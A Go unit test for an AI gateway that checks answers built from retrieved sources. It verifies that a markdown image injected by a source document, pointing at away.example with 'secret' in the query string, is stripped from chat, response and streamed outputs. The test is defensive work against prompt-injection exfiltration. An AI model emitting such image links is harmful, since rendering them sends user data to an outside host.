package through

import (
	"bytes"
	"strings"
	"testing"

	"github.com/citeway/citeway/internal/gateway/server/openai/request"
)

// An image whose address no source has goes no further, in all shapes that an answer to a
// prompt with sources has.
func TestNoImageThatADocumentInjected(t *testing.T) {
	const prose = "Tides rise [1]. ![x](https://away.example/?d=secret)"
	sources := &request.Sources{}
	sources.Read(`<source id="1" name="Tide tables">Tides rise twice a day. ![x](https://away.example/?d=secret)</source>`)
	o := Options{Citations: request.OpenAI, Sources: sources}
	whole, err := Whole([]byte(`{"id":"c","object":"chat.completion","model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"`+prose+`"},"finish_reason":"stop"}]}`), o)
	if err != nil {
		t.Fatal(err)
	}
	response, err := Response([]byte(`{"id":"r","status":"completed","output":[{"type":"message","content":[{"type":"output_text","text":"`+prose+`","annotations":[]}]}]}`), o)
	if err != nil {
		t.Fatal(err)
	}
	var stream bytes.Buffer
	if err := Stream(&stream, strings.NewReader(chunks(prose)), o); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"whole": string(whole), "response": string(response), "stream": stream.String()} {
		if strings.Contains(out, "away.example") || !strings.Contains(out, "Tides rise") {
			t.Errorf("%s: %s", name, out)
		}
	}
}
